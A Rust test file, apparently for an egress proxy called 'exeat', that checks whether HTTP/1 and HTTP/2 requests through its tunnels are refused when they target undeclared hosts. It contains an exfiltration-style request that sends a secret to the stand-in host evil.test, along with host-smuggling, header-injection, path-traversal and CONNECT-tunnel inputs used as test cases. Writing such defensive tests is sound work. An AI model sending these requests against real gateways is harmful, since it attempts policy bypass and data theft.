//! Tunnels that exeat opens: what HTTP speaks inside. What may be said first is in `attacks::tls`.

use std::sync::Arc;

use bytes::Bytes;
use http::{Request, Version};
use http_body_util::{BodyExt, Full};
use hyper::client::conn::http2::{self, SendRequest};
use hyper_util::rt::{TokioExecutor, TokioIo};
use rustls_pki_types::ServerName;
use tokio_rustls::TlsConnector;

use crate::world::{World, json_reply};

#[test]
fn an_undeclared_host_is_refused_inside_where_it_can_be_read() {
    let mut world = World::usual();
    let answer = world
        .client()
        .send_inside("GET", "https://evil.test/?q=SECRET-BBBB", &[], "");
    assert_eq!((answer.status, answer.refusal()), (403, "host_undeclared"));
    world.assert_nothing_left();
    let records = world.last_records();
    assert_eq!(records.len(), 1);
    assert_eq!(
        (&records[0]["host"], &records[0]["method"]),
        (&"evil.test".into(), &"GET".into())
    );
    assert!(records[0].get("path").is_none() && records[0].get("query").is_none());
}

/// An HTTP/2 client in a tunnel, as libraries build one.
pub(crate) async fn http2(world: &World, host: &str) -> SendRequest<Full<Bytes>> {
    let (answer, stream) = world.client().open(&format!("{host}:443"), &[]);
    assert_eq!(answer.status, 200);
    stream.set_nonblocking(true).unwrap();
    let stream = tokio::net::TcpStream::from_std(stream).unwrap();
    let mut config = world.client().tls();
    config.alpn_protocols = vec![b"h2".to_vec()];
    let name = ServerName::try_from(host.to_owned()).unwrap();
    let stream = TlsConnector::from(Arc::new(config))
        .connect(name, stream)
        .await
        .unwrap();
    let handshake = http2::handshake(TokioExecutor::new(), TokioIo::new(stream));
    let (client, connection) = handshake.await.unwrap();
    tokio::spawn(connection);
    client
}

/// Status, refusal and body of a request on a stream of its own.
pub(crate) async fn stream(
    client: &mut SendRequest<Full<Bytes>>,
    request: http::request::Builder,
    body: &'static str,
) -> (u16, String, Bytes) {
    let request = request
        .version(Version::HTTP_2)
        .body(Full::from(body))
        .unwrap();
    client.ready().await.unwrap();
    let response = client.send_request(request).await.unwrap();
    let status = response.status().as_u16();
    let refusal = response.headers().get("exeat-refusal");
    let refusal = refusal.map_or("none", |it| it.to_str().unwrap()).to_owned();
    let body = response.into_body().collect().await.unwrap().to_bytes();
    (status, refusal, body)
}

#[tokio::test]
async fn http_2_inside_reaches_the_origin_and_each_stream_is_decided_by_itself() {
    let mut world = World::usual();
    let origin = world.origin("api.good.test", |seen| {
        json_reply(&format!("{:?}", seen.text()))
    });
    let mut client = http2(&world, "api.good.test").await;
    let url = "https://api.good.test/v1/items";
    let allowed = Request::get(format!("{url}/1")).header("authorization", "Bearer ATTACKER");
    assert_eq!(stream(&mut client, allowed, "").await.0, 200);
    for (request, status, code) in [
        (
            Request::get("https://api.two.test/me"),
            421,
            "host_mismatch",
        ),
        (
            Request::get("https://api.good.test:8443/v1/items/1"),
            421,
            "host_mismatch",
        ),
        (
            Request::get("https://api.good.test@evil.test/v1/items/1"),
            421,
            "host_mismatch",
        ),
        (
            Request::get("https://api.good.test:99999/v1/items/1"),
            421,
            "host_mismatch",
        ),
        (
            Request::get(format!("{url}/1")).header("host", "evil.test"),
            421,
            "host_mismatch",
        ),
        (
            Request::get("http://api.good.test/v1/items/1"),
            400,
            "request_malformed",
        ),
        (
            Request::get("https://api.good.test//evil.test/x"),
            400,
            "request_malformed",
        ),
        (
            Request::get(format!("{url}/1"))
                .header("host", "api.good.test")
                .header("host", "api.good.test"),
            400,
            "request_malformed",
        ),
        (
            Request::get(format!("{url}/1")).header("x", "tab\tinside"),
            400,
            "request_malformed",
        ),
        (
            Request::get(format!("{url}/1")).header("x", " a"),
            400,
            "request_malformed",
        ),
        (
            Request::get(format!("{url}/1")).header("x_y", "a"),
            400,
            "request_malformed",
        ),
        (
            Request::get(format!("{url}/../admin")),
            400,
            "path_not_canonical",
        ),
        (
            Request::get("https://api.good.test/admin"),
            403,
            "action_undeclared",
        ),
        (Request::connect("evil.test:443"), 405, "method_refused"),
        (Request::options(url), 405, "method_refused"),
    ] {
        let shown = format!("{request:?}");
        let (got, refusal, _) = stream(&mut client, request, "").await;
        assert_eq!((got, refusal.as_str()), (status, code), "{shown}");
    }
    let post = Request::post(url).header("content-type", "application/json");
    let (status, _, body) = stream(&mut client, post, r#"{"qty":1,"name":"a"}"#).await;
    assert_eq!(
        (status, &body[..]),
        (200, &br#""{\"name\":\"a\",\"qty\":1}""#[..])
    );
    for seen in origin.seen() {
        assert_eq!(seen.header("authorization"), ["Bearer SECRET-AAAA"]);
        assert_eq!(seen.header("host"), ["api.good.test"]);
    }
    assert_eq!((origin.seen().len(), world.dials().len()), (2, 1));
    drop(client);
    let records = world.last_records();
    assert_eq!(records.len(), 17, "{records:#?}");
    assert!(records.iter().all(|it| it["http_version"] == "HTTP/2.0"));
}
